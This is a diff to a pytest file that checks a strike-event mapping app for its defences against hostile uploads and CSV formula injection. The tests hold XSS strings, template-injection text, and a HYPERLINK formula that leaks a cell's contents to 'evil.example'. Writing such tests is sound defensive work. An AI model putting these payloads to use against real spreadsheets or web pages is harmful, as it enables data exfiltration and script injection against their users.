@@ -25,11 +25,12 @@ import jinja2
 import pandas as pd
 import pytest
 
-from strikes import compare, csvsafe, export, mapview, validate
+from strikes import compare, csvsafe, export, intake, mapview
+from strikes.intake.ownexport import read_csv_export
 from strikes.assets import standalone_html
 from strikes.filters import Filters
 from strikes.pagetext import script_json
-from strikes.validate import UploadError, read_upload
+from strikes.intake import UploadError, read_upload
 
 from .factories import SMALL, make_events
 from .pages import readable
@@ -154,11 +155,11 @@ def cases() -> Iterator[Case]:
                geojson_text(feature(GOOD)).replace("53.6758", big).encode(), "error", "latitude")
     short = ["event_id", "event_date", "workplace", "sector", "source", "location"]
     yield Case("too-many-rows", "h.csv",
-               csv_bytes(*([f"e{i}", "2020-08-10", "MTZ", "manufacturing", "s", "Minsk"] for i in range(validate.MAX_ROWS + 1)),
+               csv_bytes(*([f"e{i}", "2020-08-10", "MTZ", "manufacturing", "s", "Minsk"] for i in range(intake.MAX_ROWS + 1)),
                          header=short), "error", "more than the 200,000")
     yield Case("too-many-columns", "h.csv", csv_bytes(GOOD + [""] * 300, header=HEADER + [f"x{i}" for i in range(300)]),
                "error", "columns")
-    yield Case("too-large", "h.csv", csv_bytes(GOOD) + b" " * validate.MAX_UPLOAD_BYTES, "error", "upload limit")
+    yield Case("too-large", "h.csv", csv_bytes(GOOD) + b" " * intake.MAX_UPLOAD_BYTES, "error", "upload limit")
     yield Case("huge-cell", "h.csv", csv_bytes(with_field(GOOD, "notes", "x" * 2_000_000)), "error",
                "row 2, field notes: is 2,000,000 characters long, more than the 32,767 a cell may hold")
     yield Case("largest-cell", "h.csv", csv_bytes(with_field(GOOD, "notes", "x" * 32_767)), "map")
@@ -279,7 +280,7 @@ def test_hostile_upload_ends_as_a_clean_map_or_a_clear_error(case: Case, compile
             assert text not in page or not any(tag in text for tag in ("<", ">")), f"raw markup on the {name}"
         assert "pwned'</script>" not in page and "<img src=x" not in page
     assert formula_cells(drawn["csv export"]) == []
-    back = export.read_csv_export(drawn["csv export"])
+    back = read_csv_export(drawn["csv export"])
     assert back["name"].tolist() == events["name"].tolist()
     json.loads(drawn["geojson export"])
 
@@ -304,7 +305,7 @@ def test_template_text_in_every_dataset_field_is_shown_literally(payload: str, c
                 assert any(form in page for form in shown), (name, field)
         assert "{{ 7*7 }}" not in payload or ">49<" not in page
     assert not any(payload in source for source in compiled_templates)
-    back = export.read_csv_export(export.export("csv", Filters(), events))
+    back = read_csv_export(export.export("csv", Filters(), events))
     assert set(back["sector"]) == {f"{payload} sector"}
 
 
@@ -318,5 +319,5 @@ def test_csv_export_neutralises_every_formula_and_round_trips() -> None:
     cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
     assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")" in cells and "'-2+3" in cells
     assert "-12" in cells and "''quoted" in cells  # a number stays a number; an apostrophe is doubled
-    back = export.read_csv_export(data)
+    back = read_csv_export(data)
     pd.testing.assert_frame_equal(back, events.reset_index(drop=True), check_dtype=False)
